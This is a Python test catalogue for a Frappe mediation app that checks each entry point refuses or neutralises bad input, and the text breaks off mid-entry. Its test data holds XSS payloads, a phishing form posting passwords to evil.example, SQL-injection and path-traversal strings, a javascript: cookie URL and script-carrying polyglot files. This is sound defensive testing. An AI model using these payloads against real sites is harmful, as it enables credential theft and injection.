"""The bad-input catalogue (issue #14): what people send that they should not, at every door of the app.

The doors are the desk's API (whitelisted methods and document saves, as a German clerk), the partner
portal (its API and pages, as a partner contact), the tenant's form (as a tenant with a portal login)
and the case inbox (mails through Frappe's own receive path, `InboundMail.process`). Each row of the
table below names its door, the bad input, and either the German message its sender gets or how the
input is handled instead (kept as text, removed, escaped when shown). Every row also proves that nothing
was saved before the refusal: the row counts of the watched doctypes and the `modified` stamps of the
world's records are the same after the attempt as before; a handled row states exactly which rows it adds.

Script payloads are stored in the fields that pages, prints and mails show, and the rendered HTML is
parsed: no element of the payload may run (no script, no event handler, no form posting elsewhere).

Every row is a test of its own (`test_<door>_<nn>_<what>`), run in a savepoint of one shared world.
"""

import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import make_msgid

import frappe
from bs4 import BeautifulSoup
from frappe.email.doctype.email_account.email_account import EmailAccount
from frappe.email.receive import InboundMail
from frappe.tests.utils import FrappeTestCase
from frappe.utils import random_string

from mitmenschen.tests.factories import (
	make_case,
	make_category,
	make_household,
	make_partner,
	make_service_type,
	make_staff_user,
)
from mitmenschen.tests.mail import ensure_incoming_account
from mitmenschen.tests.portal_world import PNG_1PX, build_organisation, make_tenant_user

DESK, PORTAL, TENANT, MAIL = "desk", "portal", "tenant", "mail"
MARK = "mmx"  # in every script payload: found in a live element, the payload ran
XSS = f'<script>alert("{MARK}")</script><img src=x onerror=alert("{MARK}")><svg onload=alert("{MARK}")>'
# written as text (entities): a template that unescapes it before output would open a live tag
BREAKOUT = f"&lt;/title&gt;&lt;script&gt;alert('{MARK}')&lt;/script&gt;"
SHORT_XSS = f'<img src=x onerror=alert("{MARK}")><form action="https://evil.example/"><input name="password"></form>Lärm'
PHISH = '<form action="https://evil.example/login"><input name="password"><button>OK</button></form>'
WATCHED = (
	"Mediation Case",
	"Comment",
	"Communication",
	"File",
	"Partner Profile Change",
	"Partner Organisation",
	"Round Table Action",
	"Round Table Meeting",
	"Refugee Household",
	"Version",
	"ToDo",
	"Email Queue",
)
# a mail from an unknown address: the case, the mail, and the clerk's note to check the reporter
MAIL_ADDS = {"Mediation Case": 1, "Communication": 1, "Comment": 1}
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{MARK}")</script></svg>'.encode()


# ---- the world: two organisations, a tenant, a clerk, a household, a case inbox --------------------


class World(frappe._dict):
	pass


def build_world() -> World:
	suffix = random_string(6)
	category = make_category(f"Bad Input {suffix}").name
	a = build_organisation("A", suffix, category)
	b = build_organisation("B", suffix, category)
	flat = frappe.get_value("Mediation Case", a["case_to_accept"], "property_unit")
	tenant = make_tenant_user(f"bad-tenant-{suffix.lower()}@portal.example", f"Mieterin {suffix}")
	household = make_household(family_name=f"Familie {suffix}", arrival_date="2026-03-01")
	return World(
		suffix=suffix,
		category=category,
		a=frappe._dict(a),
		b=frappe._dict(b),
		flat=flat,
		tenant=frappe._dict(tenant),
		clerk=make_staff_user("Mit:Menschen Clerk"),
		manager=make_staff_user("Mit:Menschen Manager"),
		household=household.name,
		service=make_service_type().name,
		inactive_partner=make_partner(f"Ruhend {suffix}", status="Inactive").name,
		case=make_case(category=category, subject=f"Laute Musik {suffix}").name,
		inbox=ensure_incoming_account(2530),
	)


def records(w: World) -> dict[str, tuple[str, str]]:
	"""The world's records whose `modified` must not move, by a short key."""
	return {
		"case_a": ("Mediation Case", w.a.case_to_accept),
		"case_a2": ("Mediation Case", w.a.case_to_decline),
		"case_b": ("Mediation Case", w.b.case_to_accept),
		"case": ("Mediation Case", w.case),
		"action_a": ("Round Table Action", w.a.action),
		"action_b": ("Round Table Action", w.b.action),
		"meeting_a": ("Round Table Meeting", w.a.meeting),
		"meeting_b": ("Round Table Meeting", w.b.meeting),
		"org_a": ("Partner Organisation", w.a.organisation),
		"household": ("Refugee Household", w.household),
	}


def state(w: World) -> dict:
	counts = {doctype: frappe.db.count(doctype) for doctype in WATCHED}
	stamps = {key: str(frappe.db.get_value(dt, name, "modified")) for key, (dt, name) in records(w).items()}
	return {"counts": counts, "modified": stamps}


# ---- how the doors are used -------------------------------------------------------------------------


def send_files(*files: tuple[str, bytes], field_name: str = "file") -> None:
	"""The multipart request a browser sends with these files (werkzeug's own request object)."""
	frappe.utils.set_request(
		method="POST",
		path="/api/method/upload",
		data={field_name: [(io.BytesIO(content), name) for name, content in files]},
	)


def page(path: str) -> tuple[int, str]:
	"""A portal page as the current user gets it from Frappe's website renderer."""
	from frappe.website.serve import get_response

	frappe.utils.set_request(method="GET", path=path)
	frappe.local.form_dict = frappe._dict()
	response = get_response(path)
	return response.status_code, frappe.safe_decode(response.get_data())


def live_payload(html: str) -> list[str]:
	"""Elements of a payload that would act in a browser: scripts and event handlers carrying the mark,
	forms posting elsewhere, and a <title> the payload broke out of."""
	soup = BeautifulSoup(html, "html.parser")
	found = [str(s)[:80] for s in soup.find_all("script") if MARK in s.get_text()]
	for tag in soup.find_all(True):
		for attribute, value in tag.attrs.items():
			if attribute.lower().startswith("on") and MARK in str(value):
				found.append(f"<{tag.name} {attribute}>")
	found += [str(f)[:80] for f in soup.find_all("form") if "evil.example" in (f.get("action") or "")]
	found += [str(i)[:80] for i in soup.find_all("input") if i.get("name") == "password"]
	return found


def mail(
	body: str = "Es ist laut im Haus.",
	subject: str = "Lärm",
	sender: str = "nachbarin@tenant.example",
	html: bool = False,
	attachments: tuple = (),
) -> bytes:
	text = MIMEText(body, "html" if html else "plain", "utf-8")
	message = MIMEMultipart() if attachments else text
	if attachments:
		message.attach(text)
	for filename, content in attachments:
		part = MIMEApplication(content, _subtype="octet-stream")
		part["Content-Disposition"] = f'attachment; filename="{filename}"'
		message.attach(part)
	if sender:
		message["From"] = sender
	message["To"] = "hilfe@esc.localhost"
	message["Subject"] = subject
	message["Message-ID"] = make_msgid(domain="tenant.example")
	return message.as_bytes()


def receive(w: World, raw: bytes):
	"""One mail through Frappe's receive path for the case inbox; the case it made or threaded into."""
	communication = InboundMail(raw, frappe.get_doc("Email Account", w.inbox)).process()
	return frappe.get_doc("Mediation Case", communication.reference_name)


# ---- the catalogue ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Bad:
	door: str
	what: str
	attempt: Callable[[World], object]
	says: str | None = None  # the German message, or a fragment of it; None: handled, not refused
	exc: type[BaseException] = frappe.ValidationError
	user: str = ""  # world key of the user at the door; default per door
	arrange: Callable[[World], object] | None = None  # as Administrator, before the snapshot
	handled: Callable[[FrappeTestCase, World, object], None] | None = None
	adds: dict[str, int] = field(default_factory=dict)  # rows a handled input adds
	# and those it adds when the site can send mail (the reporter's acknowledgement: its Communication
	# and Email Queue row), which depends on what earlier tests left as the outgoing Email Account
	adds_when_mail: dict[str, int] = field(default_factory=dict)
	touches: tuple[str, ...] = ()  # records a handled input may change


def can_send_mail() -> bool:
	"""As mediation/acknowledgement.py decides whether a new case's reporter hears of it."""
	account = EmailAccount.find_outgoing(match_by_doctype="Mediation Case")
	return bool(account and account.get("enable_outgoing"))


DOOR_USERS = {DESK: "clerk", PORTAL: "partner", TENANT: "tenant", MAIL: "Administrator"}


def user_of(w: World, case: Bad) -> str:
	key = case.user or DOOR_USERS[case.door]
	return {
		"partner": w.a.user,
		"tenant": w.tenant.user,
		"clerk": w.clerk,
		"manager": w.manager,
		"Guest": "Guest",
		"Administrator": "Administrator",
	}[key]


def api(method: str) -> Callable:
	"""A whitelisted method by its dotted path, as the API calls it."""
	return frappe.get_attr(method)


PARTNER = "mitmenschen.portal.partner_api."
TENANT_API = "mitmenschen.portal.tenant_api.submit_report"


def report(**values) -> Callable[[World], object]:
	def attempt(w: World):
		frappe.utils.set_request(method="POST", path="/api/method/" + TENANT_API)
		return api(TENANT_API)(**{"category": w.category, "description": "Der Müll steht im Hof.", **values})

	return attempt


def report_with(*photos: tuple[str, bytes], **values) -> Callable[[World], object]:
	def attempt(w: World):
		send_files(*photos, field_name="photos")
		return api(TENANT_API)(**{"category": w.category, "description": "Der Müll steht im Hof.", **values})

	return attempt


def report_with_voice(name: str, content: bytes) -> Callable[[World], object]:
	"""A report whose voice message is this file (the text left empty: the voice stands for it)."""

	def attempt(w: World):
		send_files((name, content), field_name="voice")
		return api(TENANT_API)(**{"category": w.category, "description": ""})

	return attempt


def upload(*files: tuple[str, bytes], to: Callable[[World], str] | None = None) -> Callable[[World], object]:
	def attempt(w: World):
		send_files(*files)
		return api(PARTNER + "upload_case_attachment")(to(w) if to else w.a.case_to_accept)

	return attempt


def profile(**values) -> Callable[[World], object]:
	return lambda w: api(PARTNER + "request_profile_change")(**values)


def save_case(**values) -> Callable[[World], object]:
	def attempt(w: World):
		doc = frappe.get_doc("Mediation Case", w.case)
		doc.update(values)
		return doc.save()

	return attempt


def save_doc(key: str, **values) -> Callable[[World], object]:
	def attempt(w: World):
		doctype, name = records(w)[key]
		doc = frappe.get_doc(doctype, name)
		doc.update(values)
		return doc.save()

	return attempt


def accept_a(w: World) -> None:
	frappe.db.set_value("Mediation Case", w.a.case_to_accept, "referral_status", "Accepted")


def decline_a2(w: World) -> None:
	frappe.db.set_value(
		"Mediation Case", w.a.case_to_decline, {"referral_status": "Declined", "referral_decline_reason": "x"}
	)


def store_on_case_a(**values) -> Callable[[World], None]:
	return lambda w: frappe.db.set_value("Mediation Case", w.a.case_to_accept, values)


# handled: what the sanitised result must look like


def reply_kept_as_text(t: FrappeTestCase, w: World, result) -> None:
	content = frappe.get_all(
		"Comment",
		filters={"reference_name": w.a.case_to_accept, "comment_email": w.a.user},
		pluck="content",
		order_by="creation desc",
		limit=1,
	)[0]
	t.assertNotIn("<script", content)
	t.assertNotIn("<img", content)
	t.assertIn("Wir kommen am Donnerstag", content)
	frappe.set_user(w.a.user)
	status, html = page(f"/partner/cases/{w.a.case_to_accept}")
	t.assertEqual(status, 200)
	t.assertIn("Wir kommen am Donnerstag", html)
	t.assertEqual(live_payload(html), [])


def page_is_inert(path: Callable[[World], str], shows: str | None = None):
	def check(t: FrappeTestCase, w: World, result) -> None:
		status, html = result
		t.assertEqual(status, 200, html[:300])
		t.assertEqual(live_payload(html), [], path(w))
		if shows:
			t.assertIn(shows, html)

	return check


def render(path: Callable[[World], str]) -> Callable[[World], object]:
	return lambda w: page(path(w))


def file_name_is_plain(t: FrappeTestCase, w: World, result) -> None:
	name = frappe.db.get_value("File", result["files"][0], "file_name")
	t.assertNotIn("/", name)  # Frappe keeps the dots, never the path
	t.assertTrue(frappe.db.get_value("File", result["files"][0], "is_private"))


def tenant_report_is_text(t: FrappeTestCase, w: World, result) -> None:
	case = frappe.get_doc("Mediation Case", result["name"])
	t.assertNotIn("<script", case.description)
	t.assertNotIn("<img", case.description)
	t.assertIn("&amp;lt;/title&amp;gt;", case.description)  # what the tenant typed, as text
	frappe.set_user(w.tenant.user)
	status, html = page("/my-reports")
	t.assertEqual(status, 200)
	t.assertIn(case.name, html)
	t.assertEqual(live_payload(html), [])
	from mitmenschen.mediation.acknowledgement import message_in

	t.assertEqual(live_payload(message_in(case, "de")), [])


def mail_html_is_inert(t: FrappeTestCase, w: World, case) -> None:
	t.assertNotIn("<script", case.description)
	t.assertNotIn("onerror", case.description)
	t.assertIn("Wasserschaden", case.description)
	frappe.db.set_value("Mediation Case", case.name, "referred_to", w.a.organisation)
	frappe.set_user(w.a.user)
	status, html = page(f"/partner/cases/{case.name}")
	t.assertEqual(status, 200)
	t.assertIn("Wasserschaden", html)
	t.assertEqual(live_payload(html), [])


def phishing_form_removed(t: FrappeTestCase, w: World, case) -> None:
	frappe.db.set_value("Mediation Case", case.name, "referred_to", w.a.organisation)
	frappe.set_user(w.a.user)
	status, html = page(f"/partner/cases/{case.name}")
	t.assertEqual(status, 200)
	t.assertIn("Bitte bestätigen", html)  # the text of the mail stays
	t.assertEqual(live_payload(html), [])


def subject_cut_to_140(t: FrappeTestCase, w: World, case) -> None:
	t.assertLessEqual(len(case.subject), 140)
	t.assertTrue(case.subject.startswith("Lärm Lärm"))


def broken_mime_kept(t: FrappeTestCase, w: World, case) -> None:
	t.assertEqual(case.channel, "Email")
	t.assertEqual(case.subject, "Kaputte Mail")


def unknown_charset_kept(t: FrappeTestCase, w: World, case) -> None:
	t.assertEqual(case.channel, "Email")
	t.assertIn("Hallo", case.description)


def markup_subject_kept(t: FrappeTestCase, w: World, case) -> None:
	t.assertEqual(case.subject, "E-Mail von nachbarin@tenant.example")
	communication = frappe.get_all(
		"Communication", filters={"reference_name": case.name}, pluck="subject", limit=1
	)[0]
	t.assertIn("&lt;img", communication)  # the subject as the sender typed it, as text
	t.assertEqual(live_payload(communication), [])


def sender_name_is_text(t: FrappeTestCase, w: World, case) -> None:
	t.assertNotIn("<script", case.reporter_name or "")
	frappe.db.set_value("Mediation Case", case.name, "referred_to", w.a.organisation)
	frappe.set_user(w.a.user)
	_status, html = page(f"/partner/cases/{case.name}")
	t.assertEqual(live_payload(html), [])


def communications(case) -> list[str]:
	return frappe.get_all(
		"Communication",
		filters={"reference_doctype": "Mediation Case", "reference_name": case.name},
		pluck="name",
	)


def svg_attachment_downloads(t: FrappeTestCase, w: World, case) -> None:
	from frappe.utils.response import send_private_file

	file = frappe.get_all(
		"File",
		filters={"attached_to_doctype": "Communication", "attached_to_name": ["in", communications(case)]},
		fields=["file_url", "is_private"],
	)[0]
	t.assertTrue(file.is_private)
	response = send_private_file(file.file_url.split("/private", 1)[1])
	# the browser saves it and never renders it on our site, where its script would run
	t.assertTrue(response.headers["Content-Disposition"].startswith("attachment"))


def empty_attachment_skipped(t: FrappeTestCase, w: World, case) -> None:
	t.assertEqual(case.channel, "Email")


def closure_mail_is_text(t: FrappeTestCase, w: World, result) -> None:
	from mitmenschen.mediation.closure import REPORTER, render

	_subject, body = render(REPORTER, "de", {"case_name": w.case, "subject": result, "cooperative": "eG"})
	t.assertEqual(live_payload(body), [])
	t.assertNotIn("<img", body)
	t.assertNotIn("<form", body)


def digest_is_text(t: FrappeTestCase, w: World, result) -> None:
	from mitmenschen.escalation.digest import Digest, email_template, render
	from mitmenschen.escalation.recipients import Recipient
	from mitmenschen.escalation.sources import Notice

	recipient = Recipient(w.a.user, "de", portal=True)
	notice = Notice(
		timer="t",
		recipient=recipient,
		reference_doctype="Mediation Case",
		reference_name=w.case,
		title=result,
		link="https://example/x",
		clock="resolution",
		level=1,
		trigger="breach",
	)
	_subject, body, _text = render(Digest(recipient, [notice]), email_template())
	t.assertEqual(live_payload(body), [])
	t.assertNotIn("<img", body)
	t.assertNotIn("<form", body)


def store_subject(subject: str) -> Callable[[World], None]:
	"""The subject as a desk save stores it (Frappe's sanitiser runs on the way)."""

	def arrange(w: World) -> None:
		doc = frappe.get_doc("Mediation Case", w.case)
		doc.subject = subject
		doc.save()

	return arrange


def minutes_print_is_inert(t: FrappeTestCase, w: World, html: str) -> None:
	t.assertIn("Ruhezeiten im Hof", html)
	t.assertEqual(live_payload(html), [])
	t.assertNotIn("<form", html)  # the print (and the PDF a partner gets) keeps no form from the minutes
	t.assertNotIn('name="password"', html)


def minutes_with_script(w: World) -> None:
	"""Approved minutes whose title, place, minutes and decisions carry script (a Manager's save)."""
	meeting = frappe.get_doc("Round Table Meeting", w.a.meeting)
	meeting.update(
		{
			"title": XSS + "Runder Tisch",
			"location": BREAKOUT,
			"minutes": XSS + PHISH + "<p>Ruhezeiten im Hof</p>",
		}
	)
	meeting.decisions = XSS
	meeting.save()
	frappe.db.set_value("Round Table Meeting", w.a.meeting, "status", "Minutes Approved")


def stored_subject(w: World) -> str:
	return frappe.db.get_value("Mediation Case", w.case, "subject")


def current_profile(w: World) -> dict:
	"""The approved profile as the portal form sends it back unchanged."""
	from mitmenschen.partners.profile_change import approved_profile

	values = approved_profile(w.a.organisation)
	return {k: json.dumps(v) if isinstance(v, list) else v for k, v in values.items()}


def sql_filter_finds_nothing(t: FrappeTestCase, w: World, result) -> None:
	t.assertEqual(result, [])


CATALOGUE: list[Bad] = [
	# ---- portal: replies, referrals, actions, meetings -------------------------------------------
	Bad(
		PORTAL,
		"empty reply",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_accept, "   "),
		"Bitte geben Sie eine Nachricht ein.",
	),
	Bad(
		PORTAL,
		"reply of markup only",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_accept, "<b></b><i> </i>"),
		"Bitte geben Sie eine Nachricht ein.",
	),
	Bad(
		PORTAL,
		"overlong reply",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_accept, "x" * 5001),
		"eine Nachricht ist zu lang: höchstens 5000 Zeichen.",
	),
	Bad(
		PORTAL,
		"reply with script",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_accept, XSS + "Wir kommen am Donnerstag"),
		handled=reply_kept_as_text,
		adds={"Comment": 1},
	),
	Bad(
		PORTAL,
		"reply to another organisation's case",
		lambda w: api(PARTNER + "reply_on_case")(w.b.case_to_accept, "eingeschleust"),
		"Vermittlungsfall nicht gefunden.",
		exc=frappe.PageDoesNotExistError,
	),
	Bad(
		PORTAL,
		"reply on a declined referral",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_decline, "Hallo"),
		"Sie können nur zu Fällen schreiben, die Ihre Organisation bearbeitet.",
		arrange=decline_a2,
	),
	Bad(
		PORTAL,
		"decline without a reason",
		lambda w: api(PARTNER + "decline_referral")(w.a.case_to_accept, ""),
		"Bitte geben Sie den Grund für die Ablehnung ein.",
	),
	Bad(
		PORTAL,
		"decline with an overlong reason",
		lambda w: api(PARTNER + "decline_referral")(w.a.case_to_accept, "x" * 5001),
		"den Grund für die Ablehnung ist zu lang: höchstens 5000 Zeichen.",
	),
	Bad(
		PORTAL,
		"decline an accepted referral (wrong state)",
		lambda w: api(PARTNER + "decline_referral")(w.a.case_to_accept, "kein Platz"),
		"Diese Vermittlung wurde bereits beantwortet (Angenommen).",
		arrange=accept_a,
	),
	Bad(
		PORTAL,
		"complete a referral never accepted (wrong state)",
		lambda w: api(PARTNER + "complete_referral")(w.a.case_to_accept),
		"Nur eine angenommene Vermittlung kann als erledigt gemeldet werden.",
	),
	Bad(
		PORTAL,
		"unknown interpreter language",
		lambda w: api(PARTNER + "set_interpreter_language")(w.a.case_to_accept, "xx-klingon"),
		"Unbekannte Sprache.",
	),
	Bad(
		PORTAL,
		"SQL-like interpreter language",
		lambda w: api(PARTNER + "set_interpreter_language")(w.a.case_to_accept, "de' OR '1'='1"),
		"Unbekannte Sprache.",
	),
	Bad(
		PORTAL,
		"action status the partner may not set",
		lambda w: api(PARTNER + "update_action")(w.a.action, status="Cancelled"),
		"Dieser Status kann hier nicht gesetzt werden.",
	),
	Bad(
		PORTAL,
		"action update with nothing in it",
		lambda w: api(PARTNER + "update_action")(w.a.action, note=" "),
		"Bitte wählen Sie einen Status oder schreiben Sie eine Notiz.",
	),
	Bad(
		PORTAL,
		"overlong action note",
		lambda w: api(PARTNER + "update_action")(w.a.action, status="Done", note="x" * 5001),
		"eine Notiz ist zu lang: höchstens 5000 Zeichen.",
	),
	Bad(
		PORTAL,
		"another organisation's action",
		lambda w: api(PARTNER + "update_action")(w.b.action, status="Done"),
		"Aufgabe vom Runden Tisch nicht gefunden.",
		exc=frappe.PageDoesNotExistError,
	),
	Bad(
		PORTAL,
		"RSVP answer that does not exist",
		lambda w: api(PARTNER + "rsvp")(w.a.meeting, "Maybe"),
		"Bitte wählen Sie eine Antwort.",
	),
	Bad(
		PORTAL,
		"RSVP to another organisation's meeting",
		lambda w: api(PARTNER + "rsvp")(w.b.meeting, "Accepted"),
		"Runder Tisch nicht gefunden.",
		exc=frappe.PageDoesNotExistError,
	),
	Bad(
		PORTAL,
		"a guest writes on a case",
		lambda w: api(PARTNER + "reply_on_case")(w.a.case_to_accept, "Hallo"),
		"Bitte melden Sie sich an, um diese Seite zu sehen.",
		exc=frappe.PermissionError,
		user="Guest",
	),
	Bad(
		PORTAL,
		"a tenant uses the partner API",
		lambda w: api(PARTNER + "accept_referral")(w.a.case_to_accept),
		"Diese Seite ist für Partnerorganisationen mit Portalzugang. Bitte wenden Sie sich an die Genossenschaft.",
		exc=frappe.PermissionError,
		user="tenant",
	),
	# ---- portal: attachments ----------------------------------------------------------------------
	Bad(
		PORTAL,
		"SVG with script",
		upload(("plan.svg", SVG)),
		"plan.svg: Dieser Dateityp wird nicht angenommen.",
	),
	Bad(
		PORTAL,
		"polyglot GIF that is also a web page",
		upload(("foto.gif", GIF + b"<html><script>alert(1)</script></html>")),
		"foto.gif enthält Programmcode und wird nicht angenommen.",
	),
	Bad(
		PORTAL,
		"polyglot PDF with a script",
		upload(("brief.pdf", b"%PDF-1.4\n<script>alert(1)</script>")),
		"brief.pdf enthält Programmcode und wird nicht angenommen.",
	),
	Bad(PORTAL, "zero-byte file", upload(("leer.pdf", b"")), "leer.pdf ist leer."),
	Bad(
		PORTAL,
		"oversized file",
		upload(("gross.pdf", b"%PDF-" + b"0" * (5 * 1024 * 1024))),
		"gross.pdf ist zu groß: höchstens 5 MB pro Datei.",
	),
	Bad(
		PORTAL,
		"web page as attachment",
		upload(("seite.html", b"<html></html>")),
		"seite.html: Dieser Dateityp wird nicht angenommen.",
	),
	Bad(
		PORTAL,
		"program renamed to a photo",
		upload(("foto.png", b"MZ\x90\x00 not a picture")),
		"foto.png enthält nicht, was der Name verspricht.",
	),
	Bad(PORTAL, "no file at all", upload(), "Bitte wählen Sie eine Datei."),
	Bad(
		PORTAL,
		"six files at once",
		upload(*[(f"f{i}.png", PNG_1PX) for i in range(6)]),
		"Bitte senden Sie höchstens 5 Dateien auf einmal.",
	),
	Bad(
		PORTAL,
		"a good file and a bad one",
		upload(("gut.png", PNG_1PX), ("schlecht.png", b"")),
		"schlecht.png ist leer.",
	),
	Bad(
		PORTAL,
		"attachment to another organisation's case",
		upload(("gut.png", PNG_1PX), to=lambda w: w.b.case_to_accept),
		"Vermittlungsfall nicht gefunden.",
		exc=frappe.PageDoesNotExistError,
	),
	Bad(
		PORTAL,
		"file name with a path",
		upload(("../../../etc/passwd.png", PNG_1PX)),
		handled=file_name_is_plain,
		adds={"File": 1, "Comment": 1},  # and Frappe's note of the attachment
	),
	Bad(
		PORTAL,
		"another organisation's attachment",
		lambda w: api(PARTNER + "download_attachment")(w.b.file),
		"Vermittlungsfall nicht gefunden.",
		exc=frappe.PageDoesNotExistError,
	),
	# ---- portal: profile change requests ----------------------------------------------------------
	Bad(
		PORTAL,
		"empty profile change",
		profile(),
		"Der Vorschlag ist leer: Bitte geben Sie mindestens ein Angebot, eine Sprache, einen Stadtteil oder eine Kontaktangabe an.",
	),
	Bad(
		PORTAL,
		"profile change that changes nothing",
		lambda w: api(PARTNER + "request_profile_change")(**current_profile(w)),
		"Der Vorschlag entspricht dem Profil, das die Partnersuche zeigt: Es gibt nichts freizugeben.",
		arrange=lambda w: frappe.db.set_value(
			"Partner Organisation",
			w.a.organisation,
			{"hotline_phone": "0471 1", "hotline_email": "hotline@partner.example"},
		),
	),
	Bad(
		PORTAL,
		"unknown service",
		profile(services=json.dumps(["Zauberei"])),
		"Angebote: unbekannte Einträge Zauberei.",
	),
	Bad(
		PORTAL,
		"unknown language in the profile",
		profile(languages="tlh"),
		"Sprachen: unbekannte Einträge tlh.",
	),
	Bad(
		PORTAL,
		"SQL-like district",
		profile(districts="x' OR 1=1 --"),
		"Betreute Stadtteile: unbekannte Einträge x' OR 1=1 --.",
	),
	Bad(
		PORTAL,
		"malformed list",
		profile(services='["Beratung"'),
		"Angebote: Bitte wählen Sie aus der Liste.",
	),
	Bad(
		PORTAL,
		"hot-line email that is no address",
		profile(hotline_email="keine-adresse"),
		"keine-adresse ist keine gültige E-Mail-Adresse",
		exc=frappe.InvalidEmailAddressError,
	),
	Bad(
		PORTAL,
		"javascript: website",
		profile(website="javascript:alert(document.cookie)"),
		"Webseite: Bitte geben Sie eine Adresse an, die mit https:// oder http:// beginnt.",
	),
	Bad(
		PORTAL,
		"overlong description",
		profile(description="x" * 5001),
		"Beschreibung ist zu lang: höchstens 5000 Zeichen.",
	),
	Bad(
		PORTAL,
		"description with script",
		profile(description=XSS + "Beratung für Familien"),
		handled=lambda t, w, result: t.assertEqual(
			frappe.db.get_value("Partner Profile Change", result["name"], "description"),
			'alert("mmx")Beratung für Familien',
		),
		adds={"Partner Profile Change": 1},
	),
	# ---- portal and desk: what the pages and mails show -------------------------------------------
	Bad(
		PORTAL,
		"script in a case's subject, description and decline reason",
		render(lambda w: f"/partner/cases/{w.a.case_to_accept}"),
		arrange=store_on_case_a(subject=BREAKOUT, description=XSS + PHISH, referral_decline_reason=XSS),
		handled=page_is_inert(lambda w: "case page"),
		adds={},
	),
	Bad(
		PORTAL,
		"script in an action's title and details",
		render(lambda w: f"/partner/actions/{w.a.action}"),
		arrange=lambda w: frappe.db.set_value(
			"Round Table Action", w.a.action, {"title": BREAKOUT, "details": XSS + PHISH}
		),
		handled=page_is_inert(lambda w: "action page"),
	),
	Bad(
		PORTAL,
		"script in a meeting's title and place",
		render(lambda w: "/partner/meetings"),
		arrange=lambda w: frappe.db.set_value(
			"Round Table Meeting", w.a.meeting, {"title": XSS, "location": BREAKOUT}
		),
		handled=page_is_inert(lambda w: "meetings"),
	),
	Bad(
		PORTAL,
		"script in the organisation's profile",
		render(lambda w: "/partner/profile"),
		arrange=lambda w: frappe.db.set_value(
			"Partner Organisation",
			w.a.organisation,
			{"description": XSS, "website": f'"><script>alert("{MARK}")</script>'},
		),
		handled=page_is_inert(lambda w: "profile"),
	),
	Bad(
		PORTAL,
		"script in the case list",
		render(lambda w: "/partner/referrals"),
		arrange=store_on_case_a(subject=XSS),
		handled=page_is_inert(lambda w: "referrals"),
	),
	Bad(
		DESK,
		"script in a case subject, in the reporter's closure mail",
		stored_subject,
		arrange=store_subject(SHORT_XSS),
		handled=closure_mail_is_text,
	),
	Bad(
		DESK,
		"script in a case subject, in the escalation digest",
		stored_subject,
		arrange=store_subject(SHORT_XSS),
		handled=digest_is_text,
	),
	Bad(
		DESK,
		"script in approved minutes, in their print",
		lambda w: frappe.get_attr("mitmenschen.round_table.minutes.minutes_html")(w.a.meeting),
		arrange=minutes_with_script,
		handled=minutes_print_is_inert,
		user="manager",
	),
	# ---- tenant form ------------------------------------------------------------------------------
	Bad(TENANT, "no category", report(category=None), "Bitte wählen Sie, worum es bei dem Problem geht."),
	Bad(
		TENANT,
		"SQL-like category",
		report(category="Lärm'; DROP TABLE `tabMediation Case`; --"),
		"Bitte wählen Sie, worum es bei dem Problem geht.",
	),
	Bad(
		TENANT,
		"too short a description",
		report(description="laut"),
		"Bitte beschreiben Sie das Problem in ein paar Worten (mindestens 10 Zeichen) oder nehmen Sie eine Sprachnachricht auf.",
	),
	Bad(
		TENANT,
		"a description of markup only",
		report(description="<p><br></p><div> </div>"),
		"Bitte beschreiben Sie das Problem in ein paar Worten (mindestens 10 Zeichen) oder nehmen Sie eine Sprachnachricht auf.",
	),
	Bad(
		TENANT,
		"overlong description",
		report(description="x" * 5001),
		"Die Beschreibung ist zu lang: höchstens 5000 Zeichen.",
	),
	Bad(TENANT, "unknown language", report(language="xx"), "Diese Sprache wird nicht angeboten."),
	Bad(
		TENANT,
		"a path as language",
		report(language="../../etc/passwd"),
		"Diese Sprache wird nicht angeboten.",
	),
	Bad(
		TENANT,
		"SVG photo with script",
		report_with(("hof.svg", SVG)),
		"hof.svg: Dieser Dateityp wird nicht angenommen.",
	),
	Bad(
		TENANT,
		"polyglot JPEG with script",
		report_with(("hof.jpg", JPEG + b"<script>alert(1)</script>")),
		"hof.jpg enthält Programmcode und wird nicht angenommen.",
	),
	Bad(TENANT, "zero-byte photo", report_with(("hof.jpg", b"")), "hof.jpg ist leer."),
	Bad(
		TENANT,
		"a program as voice message",
		report_with_voice("sprachnachricht.webm", b"MZ\x90\x00" + b"\x00" * 2000),
		"sprachnachricht.webm ist keine Sprachnachricht. Bitte nehmen Sie eine mit dem Knopf auf oder senden "
		"Sie eine Audiodatei.",
	),
	Bad(
		TENANT,
		"an overlong voice message",
		report_with_voice("sprachnachricht.webm", b"\x1aE\xdf\xa3" + b"\x00" * (10 * 1024 * 1024)),
		"Die Sprachnachricht ist zu lang: höchstens 10 MB. Bitte nehmen Sie eine kürzere auf.",
	),
	Bad(
		TENANT,
		"oversized photo",
		report_with(("hof.jpg", JPEG + b"0" * (5 * 1024 * 1024))),
		"hof.jpg ist zu groß: höchstens 5 MB pro Datei.",
	),
	Bad(
		TENANT,
		"PDF instead of a photo",
		report_with(("hof.pdf", b"%PDF-1.4")),
		"hof.pdf: Dieser Dateityp wird nicht angenommen.",
	),
	Bad(
		TENANT,
		"PNG named JPEG",
		report_with(("hof.jpg", PNG_1PX)),
		"hof.jpg enthält nicht, was der Name verspricht.",
	),
	Bad(
		TENANT,
		"a good photo and a bad one: no half report",
		report_with(("a.png", PNG_1PX), ("b.gif", b"GIF00")),
		"b.gif enthält nicht, was der Name verspricht.",
	),
	Bad(
		TENANT,
		"a partner contact uses the tenant form",
		report(),
		"Ihr Zugang ist mit keinem Mietverhältnis verknüpft.",
		exc=frappe.PermissionError,
		user="partner",
	),
	Bad(
		TENANT,
		"a guest uses the tenant form",
		report(),
		"Bitte melden Sie sich an, um diese Seite zu sehen.",
		exc=frappe.PermissionError,
		user="Guest",
	),
	Bad(
		TENANT,
		"script in the description and the place",
		report(description=f"{XSS}{BREAKOUT} Der Müll steht seit Tagen im Hof.", location_text=XSS),
		handled=tenant_report_is_text,
